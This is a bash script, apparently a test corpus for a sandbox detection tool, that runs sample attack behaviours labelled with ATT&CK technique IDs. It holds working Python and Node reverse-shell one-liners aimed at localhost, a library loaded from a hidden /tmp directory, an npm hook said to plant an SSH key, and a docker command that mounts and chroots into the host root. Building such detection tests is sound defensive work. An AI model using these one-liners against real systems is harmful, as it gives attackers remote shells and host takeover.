#!/bin/bash
# MALICIOUS-behaviour corpus sample (harmless): interpreter one-liners that run commands (python,
# node, lua), a reverse-shell attempt in each language (to 127.0.0.1, where nothing listens), a
# shared module loaded from a hidden /tmp directory, a lure run from ~/Downloads, a dependency
# whose npm postinstall hook downloads and plants an SSH key, a service started through its init
# script, and container CLIs (shell stubs). Names only resolve inside sandtrace's sinkhole.
set -u

echo "[corpus] python one-liners (T1059.006)"
python3 -c 'import os; os.system("id; uname -a")'
python3 -c 'import socket,os,pty;s=socket.socket();s.settimeout(1);s.connect(("127.0.0.1",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' 2>/dev/null ||
	echo "[corpus] python reverse shell: nobody listening"

echo "[corpus] javascript one-liners (T1059.007)"
node -e 'require("child_process").execSync("id; hostname", {stdio: "inherit"})'
node -e 'var net=require("net"),cp=require("child_process");var c=new net.Socket();c.on("error",function(){console.log("[corpus] node reverse shell: nobody listening");process.exit(0)});c.connect(9002,"127.0.0.1",function(){var sh=cp.spawn("/bin/sh",[]);c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});'

echo "[corpus] lua one-liner (T1059.011)"
lua -e 'os.execute("id")'

echo "[corpus] shared module from a hidden scratch directory (T1129)"
mkdir -p /tmp/.cache-x
cp /opt/corpus/libupdate.so /tmp/.cache-x/libupdate.so
python3 -c 'import ctypes; ctypes.CDLL("/tmp/.cache-x/libupdate.so")'

echo "[corpus] lure run from ~/Downloads (T1204.002)"
/root/Downloads/invoice-viewer.run

echo "[corpus] dependency install hook (T1195.001)"
(cd /opt/corpus/pkg && npm install)

echo "[corpus] service started through its init script (T1569)"
service corpus-agent start

echo "[corpus] container CLIs (shell stubs: T1609, T1610, T1059.013)"
kubectl exec -n prod api-0 -- /bin/sh -c id
docker run --rm -v /:/host alpine:3.19 chroot /host sh -c id

echo "[corpus] done"
exit 0
